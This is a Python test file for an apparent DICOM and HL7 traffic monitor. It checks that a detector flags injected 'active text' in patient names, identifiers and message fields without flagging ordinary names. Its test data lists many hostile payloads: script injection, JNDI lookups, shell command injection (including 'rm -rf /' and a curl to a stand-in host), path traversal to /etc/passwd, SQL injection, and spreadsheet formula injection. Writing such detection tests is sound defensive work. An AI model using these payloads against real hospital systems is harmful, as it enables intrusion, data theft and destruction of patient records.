"""What is told as active text, and what ordinary names and identifiers must never be taken for."""

from __future__ import annotations

import pytest

from radvigil.protocols.active_text import LOOKED, active_kind, active_kind_of_uid
from radvigil.protocols.dicom import DICOM
from radvigil.protocols.hl7 import HL7
from radvigil.records import ActiveText, Event, Limits
from tests.support import dicom_traffic as d
from tests.support.driving import context_for, events_of, orig, resp

ACTIVE = [
    ("markup", "<script>alert(1)</script>"),
    ("markup", "DOE^<ScRiPt src=//x.example></script>"),
    ("markup", "<img onerror=alert(1) src=x>"),
    ("markup", "<img src=x>"),
    ("markup", '"><svg onload=x()>'),
    ("markup", "<svg/onload=alert(1)>"),
    ("markup", "<x onclick=y>"),
    ("markup", "<a href=//x.example>"),
    ("markup", "'onmouseover='x()"),
    ("markup", '" onfocus=x autofocus'),
    ("markup", "</title>"),
    ("markup", "<!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>"),
    ("markup", "<!-- x"),
    ("markup", "<?php system('id');"),
    ("markup", "%3Cscript%3Ealert(1)"),
    ("markup", "&lt;script&gt;"),
    ("markup", "&#60;iframe "),
    ("script", "javascript:alert(1)"),
    ("script", "JAVASCRIPT : x"),
    ("script", "data:text/html,x"),
    ("script", "${jndi:ldap://x.example/a}"),
    ("script", "${${lower:j}ndi:x}"),
    ("script", "${T(java.lang.Runtime)}"),
    ("script", "{{7*7}}"),
    ("script", "$(id)"),
    ("script", "X; rm -rf /"),
    ("script", "X && curl http://x.example/a"),
    ("script", "X|powershell -e"),
    ("path", "../../etc/passwd"),
    ("path", "..\\..\\windows\\win.ini"),
    ("path", "%2e%2e/%2e%2e/x"),
    ("path", "..%2f..%2fx"),
    ("path", "%252e%252e%252fx"),
    ("path", "/etc/passwd"),
    ("path", "1.2.3/../x"),
    ("sql", "' OR 1=1"),
    ("sql", "' or '1'='1"),
    ("sql", "'or'1'='1"),
    ("sql", "') OR ('a'='a"),
    ("sql", "1 OR 1=1"),
    ("sql", "' AND name LIKE '%"),
    ("sql", "admin'--"),
    ("sql", "'; DROP TABLE patients; --"),
    ("sql", "X; drop table x"),
    ("sql", "1; DELETE FROM study"),
    ("sql", "x' UNION SELECT password FROM users"),
    ("sql", "1 UNION ALL SELECT NULL"),
    ("sql", "1 union/**/select 1"),
    ("sql", "x'; SELECT * FROM study"),
    ("sql", "(select password from users)"),
    ("sql", "x'; EXEC xp_cmdshell 'dir'"),
    ("sql", "' and x is null"),
    ("sql", "1; WAITFOR DELAY '0:0:5'"),
    ("sql", "1 and pg_sleep(5)"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula", "=cmd|"),
    ("formula", "=1+1|cmd'!A0"),
    ("formula", "-2+3+cmd|' /C calc'!A0"),
    ("formula", '=HYPERLINK("http://x.example")'),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula", "@SUM(A1)"),
    ("formula", "+IMPORTXML(x)"),
    ("formula", "=1+1"),
    ("formula", "DOE^=WEBSERVICE(1)"),
    ("formula", "A\\=HYPERLINK(1)"),
    ("control", "CT1\x1b[2J"),
    ("control", "\x1b]0;title\x07"),
]

ORDINARY = [
    "O'Brien", "D'OR^JEAN", "D'OR JEAN=YAMADA", "D'Onofrio=X", "d'Or 1950", "l'hôpital", "L'HÔPITAL ET LA VILLE",
    "Smith-Jones", "DOE^JANE", "A=B", "=YAMADA^TARO", "=山田^太郎", "Yamada^Tarou=山田^太郎=やまだ^たろう", "< 3 cm",
    "a < b and b > c", "<none>", "<UNKNOWN>", "<3", "->", "O^SH", "A\\B", "1.2.3\\1.2.4", "http://pacs.example/a/b?x=1",
    "https://x.example/studies/1", "WORK:1", "12/345", "2026/11/17", "N/A", "12 rue de l'Église, 3/4", "+33 (0)1 23 45",
    "+41(0)44", "-", "--", "@HOME", "name@hospital.example", "ward 3; bed 4", "SMITH;JONES", "Union Hospital",
    "UNION SELECTE", "CREDIT UNION", "Anderson", "Drop^Table", "SELECT^PAT", "O`Neil^D`Arcy", "50 %", "100%", "$100",
    "R&D", "Tom && Jerry", "{1}", "(Smith)", "*", "SMI*", "A?B", "1.5T", "SIGNA Artist (29.1)", "V1.0\\V2.0_(3)", "...",
    "a..b/c", "etc../", "C:D", "12:30:00", "St. John's; or (see 1)", "Johnson 'Jack' Or Smith", "MRN#123", "O'A--B",
    "SMITH;CURL JOHN", "SMITH; CURL J.R.", "TC; RM - CRANEO", "CT; CAT /MRI", "'Select Specialty Hospital'",
    "(Jones) Select Medical", "the patients' and this is fine", "D'OR 2=山田", '""', '""^""', "(MD) Exec Health",
    "Smith; exec", "X; shutdown of room 3", "=^^", "-^TARO", "+1|2", "Script^Ann", "Image^Or", "Java: the isle",
]  # fmt: skip

ENCODED = [
    "山田^太郎".encode("iso2022_jp"),
    b"Yamada^Tarou=\x1b$B;3ED\x1b(B^\x1b$BB@O:\x1b(B=\x1b$B$d$^$@\x1b(B^\x1b$B$?$m$&\x1b(B",
    b"Hong^Gildong=\x1b$)C\xfb\xf3^\x1b$)C\xd1\xce\xd4\xd7",
    b"\x1b$(D\x30\x22\x1b(B",
    "Ελλάς".encode("iso8859-7"),
    "张^三".encode("gb18030"),
    b"",
    b" \0",
]


@pytest.mark.parametrize(("kind", "text"), ACTIVE)
def test_active_text_is_told_by_its_kind(kind: str, text: str) -> None:
    assert active_kind(text.encode()) == kind
    assert active_kind(text.upper().encode()) == kind


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_names_and_identifiers_are_not(text: str) -> None:
    assert active_kind(text.encode()) is None
    assert active_kind(text.encode("latin-1", "replace")) is None


@pytest.mark.parametrize("raw", ENCODED)
def test_other_character_sets_are_not(raw: bytes) -> None:
    assert active_kind(raw) is None


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (b"1.2.840.10008.1.1", None),
        (b"1.2.3\0", None),
        (b"1.2.3 ", None),
        (b"1.2.3\\1.2..\\1.3", None),
        (b"..\\..\\..", "path"),
        (b"1.2.*", None),
        (b"1.2.ABC_3", None),
        (b"\x9c\x12</\xff", None),
        (b"1.2/3", "path"),
        (b"../../x", "path"),
        (b"1.2<3>", "markup"),
        (b"1.2'", "sql"),
        (b"1.2; DROP TABLE x", "sql"),
        (b"${jndi:x}", "script"),
    ],
)
def test_in_a_uid_less_is_enough(raw: bytes, kind: str | None) -> None:
    assert active_kind_of_uid(raw) == kind


def test_only_the_beginning_of_a_value_is_looked_at() -> None:
    assert active_kind(b"A" * (LOOKED - 20) + b"<script>") == "markup"
    assert active_kind(b"A" * LOOKED + b"<script>") is None


# In the decoders

SECRET = "<script>s3cr3t"
"""As long as an SH may be."""
Told = list[tuple[str, str, str]]


def told(events: list[Event]) -> Told:
    return [(one.sender, one.field, one.kind) for one in events if isinstance(one, ActiveText)]


def association(*said: tuple[int, bytes], calling: str = "CT_1", called: str = "PACS", of: str = d.CT) -> list:
    talk = [orig(d.request([(of, [d.EXPLICIT])], calling, called)), resp(d.accept([(of, [d.EXPLICIT])]))]
    return [*talk, *said, orig(d.release_request()), resp(d.release_answer())]


def stored(**values: str) -> bytes:
    image = d.image()
    for name, value in values.items():
        setattr(image, name, value)
    return d.store(d.data_set(image))


def test_titles_that_are_active() -> None:
    events = events_of(DICOM, association(calling="<img src=x>", called="$(id)"))
    assert told(events) == [("orig", "CalledAETitle", "script"), ("orig", "CallingAETitle", "markup")]


@pytest.mark.parametrize("field", ["PatientID", "AccessionNumber", "PatientName", "StationName", "Manufacturer"])
def test_values_of_an_image(field: str) -> None:
    events = events_of(DICOM, association(orig(stored(**{field: SECRET}))))
    assert told(events) == [("orig", field, "markup")]
    assert "s3cr3t" not in repr([one for one in events if isinstance(one, ActiveText)])


def test_a_patient_name_is_looked_at_and_comes_out_of_nothing() -> None:
    events = events_of(DICOM, association(orig(stored(PatientName=SECRET))))
    assert told(events) == [("orig", "PatientName", "markup")]
    assert "s3cr3t" not in repr(events)


def test_an_ordinary_image_says_nothing() -> None:
    assert told(events_of(DICOM, association(orig(stored()), resp(d.stored())))) == []


def test_each_place_and_kind_is_said_once_for_each_sender() -> None:
    images = [orig(stored(PatientID=SECRET)), orig(stored(PatientID=SECRET + "x")), orig(stored(PatientID="=1+1"))]
    events = events_of(DICOM, association(*images))
    assert told(events) == [("orig", "PatientID", "markup"), ("orig", "PatientID", "formula")]


def test_a_uid_of_the_command_that_is_none() -> None:
    store = d.store(d.data_set(d.image()), instance="1.2.3.4.5.6").replace(b"1.2.3.4.5.6", b"1.2/../../x", 1)
    assert told(events_of(DICOM, association(orig(store)))) == [("orig", "AffectedSOPInstanceUID", "path")]


def test_what_is_too_much_for_a_uid_may_be_a_number_elsewhere() -> None:
    study = stored(AccessionNumber="1.2/44").replace(b"1.2.3.4.777\0", b"1.2/44".ljust(12))
    assert told(events_of(DICOM, association(orig(study)))) == [("orig", "StudyInstanceUID", "path")]


def test_many_active_values_hide_no_other() -> None:
    images = [orig(stored(PatientID=f"<script>{number}")) for number in range(200)]
    events = events_of(DICOM, association(*images, orig(stored(AccessionNumber=SECRET))))
    assert told(events) == [("orig", "PatientID", "markup"), ("orig", "AccessionNumber", "markup")]


def test_query_keys_and_answers_are_each_told_of_their_sender() -> None:
    query = d.Dataset()
    query.QueryRetrieveLevel, query.PatientName, query.StudyDescription = "STUDY", SECRET + "*", "*' OR 1=1 --"
    said = {"AffectedSOPClassUID": d.STUDY_FIND}
    answer = d.Dataset()
    answer.PatientName, answer.PatientID = SECRET, "..\\..\\x"
    found = d.data_set(answer)
    talk = association(
        orig(d.message("C_FIND_RQ", MessageID=1, Priority=2, Identifier=d.data_set(query), **said)),
        resp(d.message("C_FIND_RSP", MessageIDBeingRespondedTo=1, Status=0xFF00, Identifier=found, **said)),
        of=d.STUDY_FIND,
    )
    assert told(events_of(DICOM, talk)) == [
        ("orig", "StudyDescription", "sql"),
        ("orig", "PatientName", "markup"),
        ("resp", "PatientName", "markup"),
        ("resp", "PatientID", "path"),
    ]


def test_more_places_than_the_limit_are_not_told() -> None:
    query = d.Dataset()
    query.QueryRetrieveLevel = "STUDY"
    for name in ("PatientName", "PatientID", "StudyDescription", "AccessionNumber"):
        setattr(query, name, SECRET)
    said = {"AffectedSOPClassUID": d.STUDY_FIND}
    asked = d.message("C_FIND_RQ", MessageID=1, Priority=2, Identifier=d.data_set(query), **said)
    context = context_for([], Limits(names=5))
    assert len(told(events_of(DICOM, association(orig(asked), of=d.STUDY_FIND), context=context))) == 4
    context = context_for([], Limits(names=2))
    assert len(told(events_of(DICOM, association(orig(asked), of=d.STUDY_FIND), context=context))) <= 2


def message(msh_3: str = "RIS", **pid: str) -> tuple[int, bytes]:
    fields = [pid.get(f"pid_{number}", "") for number in range(1, 20)]
    lines = [f"MSH|^~\\&|{msh_3}|H|PACS|H|20261117||ADT^A04|1|P|2.5", "PID|" + "|".join(fields)]
    return orig(b"\x0b" + "\r".join(lines).encode() + b"\r\x1c\r")


@pytest.mark.parametrize(
    ("fields", "place"),
    [
        ({"pid_5": SECRET}, ("orig", "PID-5", "markup")),
        ({"pid_5": "DOE^\\X3C\\script>"}, ("orig", "PID-5", "markup")),
        ({"pid_5": "=cmd\\F\\' /C calc'!A0"}, ("orig", "PID-5", "formula")),
        ({"pid_3": "1~2' OR 1=1^^^H"}, ("orig", "PID-3", "sql")),
        ({"msh_3": "../../RIS"}, ("orig", "MSH-3", "path")),
    ],
)
def test_fields_of_an_hl7_message(fields: dict[str, str], place: tuple[str, str, str]) -> None:
    assert told(events_of(HL7, [message(**fields)])) == [place]
    assert told(events_of(HL7, [message(**fields), message(**fields)])) == [place]


@pytest.mark.parametrize(
    "fields",
    [
        {"pid_5": "O\\T\\BRIEN^D'OR"},
        {"pid_5": "A\\S\\B\\R\\C"},
        {"pid_11": "12/3 rue de l'Église^^Paris", "pid_13": "+33 (0)1 23"},
        {"pid_5": "\\H\\DOE\\N\\^JANE"},
    ],
)
def test_ordinary_hl7_fields(fields: dict[str, str]) -> None:
    assert told(events_of(HL7, [message(**fields)])) == []


def test_observations_are_not_looked_at() -> None:
    sender, block = message()
    held = block.replace(
        b"\r\x1c", b"\rOBX|1|ED|PDF||<script>x</script>^../../x\rOBX|2|TX|||< 3 cm http://x.example\r\x1c"
    )
    assert told(events_of(HL7, [(sender, held)])) == []
